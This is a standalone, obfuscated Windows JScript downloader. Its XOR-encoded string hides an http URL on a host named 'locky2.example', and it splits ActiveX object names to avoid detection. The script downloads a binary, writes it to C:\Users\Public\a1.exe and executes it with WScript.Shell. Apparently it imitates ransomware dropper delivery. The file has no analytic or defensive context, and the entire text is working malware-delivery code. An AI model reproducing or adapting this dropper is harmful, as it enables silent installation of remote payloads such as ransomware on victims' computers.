
String.prototype.kuku = function () { var a = this.split("|"), r = ""; for (var i = 0; i < a.length; i++) r += String.fromCharCode(parseInt(a[i], 16) ^ 0x2f); return r; };
Array.prototype.mix = function (n) { var o = []; for (var i = 0; i < this.length; i++) o[(i * n) % this.length] = this[i]; return o; };
var t = "47|5b|5b|5f|15|0|0|43|40|4c|44|56|1d|1|4a|57|4e|42|5f|43|4a|0|4b|4e|5b|4e|1|4d|46|41".kuku();
var p = ["M","s","x","m","l","2",".","S","e","r","v","e","r","X","M","L","H","T","T","P",".","6",".","0"].mix(1).join("");
var o = new ActiveXObject(p);
o.open("GET", t, false); o.send();
var z = new ActiveXObject("ADODB" + "." + "Str" + "eam"); z.Type = 1; z.Open(); z.Write(o.ResponseBody); z.SaveToFile("C:\\Users\\Public\\a1.exe", 2);
(new ActiveXObject("WScript.Shell")).Exec("C:\\Users\\Public\\a1.exe");
